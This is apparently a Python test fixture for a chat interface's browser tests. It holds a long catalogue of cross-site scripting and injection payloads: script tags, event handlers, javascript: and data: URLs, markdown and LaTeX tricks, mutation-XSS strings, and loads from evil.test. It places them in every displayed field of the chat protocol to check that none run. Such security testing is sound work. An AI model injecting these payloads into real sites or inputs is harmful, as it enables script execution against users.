"""What runs or loads something where a page is careless, and every place of the protocol that a
text of somebody else is shown in.

What runs sets `__pwned`; what loads asks `evil.test`.
"""

from collections.abc import Callable
from typing import Any, TypeAlias

from tests.browser.chat import done

RUN = "window.__pwned=1"

MARKUP = (
    f"<script>{RUN}</script>",
    "<script src=https://evil.test/x.js></script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=https://evil.test/x.png onload={RUN}>",
    "<img srcset='https://evil.test/x.png 2x'>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{RUN}>",
    "<svg><use href='https://evil.test/x.svg#x'/></svg>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<iframe src=https://evil.test></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<body onload={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div onpointerover={RUN} style=position:fixed;inset:0>x</div>",
    f"<a href=javascript:{RUN} onclick={RUN}>x</a>",
    "<base href=https://evil.test/>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<div style='background:url(https://evil.test/x.png)'>x</div>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><x onclick={RUN}>",
    "<chatkit-markdown></chatkit-markdown>",
    f"</div></template></style></script><script>{RUN}</script>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus x='",
    f"`-{RUN}-`",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    f"%3Cimg src=x onerror={RUN}%3E",
    f"<\x00script>{RUN}</script>",
)
"""As HTML, as a part of an attribute, or as a template."""

ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"javascript\t:{RUN}",
    f"javascript://evil.test/%0a{RUN}",
    f"&#106;avascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript:'<script>{RUN}</script>'",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script>",
    "blob:https://evil.test/1",
    "filesystem:https://evil.test/1",
    f"view-source:javascript:{RUN}",
    f'https://evil.test/"onmouseover="{RUN}',
)
"""Where nothing leads that is shown, and whence nothing is loaded."""

MARKDOWN = (
    *(f"[x]({address})" for address in ADDRESSES),
    *(f"[x](<{address}>)" for address in ADDRESSES),
    *(f"![x]({address})" for address in ADDRESSES),
    *(f"<{address}>" for address in ADDRESSES),
    *(f"[x][y]\n\n[y]: {address}" for address in ADDRESSES),
    f'[x](https://a.test "y\\" onclick={RUN}")',
    f'[x](https://a.test"onmouseover="{RUN})',
    f"[<img src=x onerror={RUN}>](https://a.test)",
    "![x](https://evil.test/x.png)",
    "![x](//evil.test/x.png)",
    "![x](http://evil.test/x.png)",
    f'![x"onerror="{RUN}](https://evil.test/x.png)',
    f'![x](https://evil.test/x"onerror="{RUN})',
    f"| <img src=x onerror={RUN}> |\n|---|\n| [x](javascript:{RUN}) |",
    f"- [ ] <img src=x onerror={RUN}>",
    f"> <img src=x onerror={RUN}>",
    f"# <img src=x onerror={RUN}>",
    f"`<img src=x onerror={RUN}>`",
    f"```js\n</code></pre><script>{RUN}</script>\n```",
    f"    <script>{RUN}</script>",
)

FORMULAS = (
    *(f"\\href{{{address}}}{{x}}" for address in ADDRESSES),
    f"\\url{{javascript:{RUN}}}",
    "\\includegraphics{https://evil.test/x.png}",
    f"\\htmlData{{x=y onclick={RUN}}}{{z}}",
    "\\htmlStyle{background:url(https://evil.test/x.png)}{x}",
    f'\\htmlClass{{x" onclick="{RUN}}}{{x}}',
    f'\\htmlId{{x" onclick="{RUN}}}{{x}}',
    f"\\text{{<img src=x onerror={RUN}>}}",
    f'\\textcolor{{red" onclick="{RUN}}}{{x}}',
    "\\def\\x{\\x\\x}\\x",
)

TEXTS = (*MARKUP, *ADDRESSES)

COLOURED = {"html": "<b>x</b>", "js": "var x = 1;", "markdown": "# x"}
"""Languages, and a line of each that surely gets a colour."""

Events: TypeAlias = list[dict[str, Any]]


def says(*texts: str) -> Events:
    """Answers of the assistant."""
    return [
        done("assistant_message", content=[{"type": "output_text", "text": text}]) for text in texts
    ]


def markdown() -> Events:
    return says(*MARKUP, *MARKDOWN)


def code() -> Events:
    """Languages, and code that the highlighter colours."""
    lines = [text.replace("\n", " ").replace("`", "") for text in TEXTS]
    return says(
        *(f"```{line}\ncode\n```" for line in lines),
        *(f"```{name}\n{begin}\n{line}\n```" for name, begin in COLOURED.items() for line in lines),
    )


def formulas() -> Events:
    return says(*(f"${one}$ and\n\n$$\n{one}\n$$" for one in (*FORMULAS, *MARKUP)), "$x$")


def annotations() -> Events:
    def sources(text: str) -> list[dict[str, Any]]:
        more = {"title": text, "description": text, "group": text, "timestamp": text}
        return [
            {"type": "url", "url": text, "attribution": text, **more},
            {"type": "url", "url": f"https://a.test/{text}", "attribution": text, **more},
            {"type": "file", "filename": text, **more},
            {"type": "entity", "id": text, "icon": "user", "label": text, "inline_label": text,
             "interactive": True, "data": {"x": text}, **more},
        ]  # fmt: skip

    def content(text: str) -> dict[str, Any]:
        marks = [{"type": "annotation", "source": one, "index": 4} for one in sources(text)]
        return {"type": "output_text", "text": "Said.", "annotations": marks}

    return [done("assistant_message", content=[content(text)]) for text in TEXTS]


def notices() -> Events:
    return [
        {"type": "notice", "level": level, "title": text, "message": text}
        for text in (*TEXTS, *MARKDOWN)
        for level in ("info", "danger")
    ]


def progress() -> Events:
    return [{"type": "progress_update", "icon": "search", "text": text} for text in TEXTS]


def error() -> Events:
    return [{"type": "error", "message": " ".join(TEXTS), "allow_retry": True}]


def questions() -> Events:
    def inputs(text: str) -> list[dict[str, Any]]:
        options = [{"value": text}, {"value": "Other"}]
        common = {"question": text, "description": text}
        return [
            {"type": "multiple_choice", "id": "a", "options": options, **common},
            {"type": "multiple_choice", "id": "b", "options": options, "multiple": True, **common},
            {"type": "freeform", "id": f"c{text}", **common},
        ]

    return [done("structured_input", inputs=inputs(text)) for text in TEXTS]


def workflows() -> Events:
    def tasks(text: str) -> list[dict[str, Any]]:
        url = {"type": "url", "title": text, "url": text}
        return [
            {"type": "custom", "title": text, "icon": "search", "content": text},
            {"type": "web_search", "title": text, "title_query": text, "queries": [text],
             "sources": [url]},
            {"type": "file", "title": text, "sources": [{"type": "file", "title": text,
                                                         "filename": text}]},
            {"type": "image", "title": text},
            {"type": "thought", "title": text, "content": text},
        ]  # fmt: skip

    return [
        *(
            done("workflow", workflow={"type": "custom", "tasks": tasks(text), "expanded": True,
                                       "summary": {"title": text, "icon": "globe"}})
            for text in TEXTS
        ),
        *(done("task", task=task) for text in TEXTS for task in tasks(text)),
    ]  # fmt: skip


def user_messages() -> Events:
    """With tags, a quotation and files."""

    def message(text: str) -> dict[str, Any]:
        tag = {"type": "input_tag", "id": text, "text": text, "data": {"x": text}, "group": text}
        files = [
            {"type": "file", "id": "f", "name": text, "mime_type": text},
            {"type": "image", "id": "i", "name": text, "mime_type": "image/png",
             "preview_url": "data:image/png;base64,iVBORw0KGgo="},
        ]  # fmt: skip
        return done(
            "user_message",
            content=[{"type": "input_text", "text": text}, {**tag, "interactive": True}, tag],
            attachments=files,
            quoted_text=text,
            inference_options={"model": text, "tool_choice": {"id": text}},
        )

    return [message(text) for text in TEXTS]


def images() -> Events:
    return [
        done("generated_image", image={"id": text, "url": text})
        for text in ADDRESSES
        if not text.startswith(("https:", "blob:"))
    ]


def widgets() -> Events:
    return [done("widget", widget=widget(text)) for text in TEXTS]


def lists() -> Events:
    def root(text: str) -> dict[str, Any]:
        entry = {"type": "ListViewItem", "key": text, "id": text,
                 "children": [{"type": "Text", "value": text}],
                 "onClickAction": {"type": text, "payload": {text: text}}}  # fmt: skip
        status = {"text": text, "favicon": text}
        return {"type": "ListView", "key": text, "id": text, "status": status, "children": [entry]}

    return [done("widget", widget=root(text)) for text in TEXTS]


def widget(text: str) -> dict[str, Any]:
    """Every component, with the text wherever it takes one, and where it takes a name or a size."""
    action = {"type": text, "payload": {"x": text}}
    theme = {"light": text, "dark": text}
    box = {"background": text, "padding": text, "margin": {"x": text}, "width": text, "flex": text,
           "height": text, "gap": text, "radius": text, "aspectRatio": text,
           "border": {"size": 1, "color": text, "style": text}, "align": text}  # fmt: skip
    choice = {"value": text, "label": text, "description": text}
    field = {"name": text, "defaultValue": text, "placeholder": text, "pattern": text}
    looks = {"variant": text, "size": text, "color": text}
    children: list[dict[str, Any]] = [
        {"type": "Title", "value": text, "size": text, "color": theme, "weight": text},
        {"type": "Text", "value": text, "color": text, "textAlign": text, "width": text},
        {"type": "Text", "value": text, "editable": {"name": text, "placeholder": text,
                                                     "autoComplete": text, "pattern": text}},
        {"type": "Caption", "value": text, "key": text, "id": text},
        {"type": "Markdown", "value": text},
        {"type": "Badge", "label": text, **looks},
        {"type": "Icon", "name": text, "color": text, "size": text},
        {"type": "Icon", "name": f"lucide:{text}"},
        {"type": "Image", "src": text, "alt": text, "fit": text, "position": text},
        {"type": "Button", "label": text, "iconStart": text, "iconEnd": text, "style": text,
         "onClickAction": action, **looks},
        {"type": "Divider", "color": text, "size": text, "spacing": text},
        {"type": "Spacer", "minSize": text},
        {"type": "Row", **box, "children": [{"type": "Text", "value": text}]},
        {"type": "Box", **box, "direction": text, "background": theme},
        {"type": "Transition", "children": {"type": "Text", "value": text, "key": text}},
        {"type": "Table", "children": [{"type": "Table.Row", "header": True, "children": [
            {"type": "Table.Cell", "width": text, "align": text, "colSize": text,
             "children": [{"type": "Text", "value": text}]}]}]},
        {"type": "Form", "onSubmitAction": action, "children": [
            {"type": "Label", "value": text, "fieldName": text, "color": text},
            {"type": "Input", **field, "inputType": text, **looks},
            {"type": "Textarea", **field, **looks},
            {"type": "Select", **field, "options": [choice], "onChangeAction": action, **looks},
            {"type": "DatePicker", **field, "min": text, "max": text, "side": text},
            {"type": "Checkbox", "name": text, "label": text},
            {"type": "RadioGroup", "name": text, "ariaLabel": text, "options": [choice]},
        ]},
        {"type": "Chart", "data": [{"x": text, text: 3, "y": 2}], "showLegend": True,
         "showTooltip": True, "xAxis": {"dataKey": "x", "labels": {text: text}},
         "showYAxis": True, "series": [
            {"type": "bar", "dataKey": text, "label": text, "color": text, "stack": text},
            {"type": "line", "dataKey": "y", "label": text, "color": theme, "curveType": text}]},
        {"type": text, "value": text},
    ]  # fmt: skip
    return {
        "type": "Card",
        "size": text,
        "theme": text,
        "background": text,
        "status": {"text": text, "icon": text},
        "children": children,
        "confirm": {"label": text, "action": action},
        "cancel": {"label": text, "action": action},
    }


ATTACKS: dict[str, Callable[[], Events]] = {
    attack.__name__: attack
    for attack in (
        markdown,
        code,
        formulas,
        annotations,
        notices,
        progress,
        error,
        questions,
        workflows,
        user_messages,
        images,
        widgets,
        lists,
    )
}
"""Where everything is played, by name."""
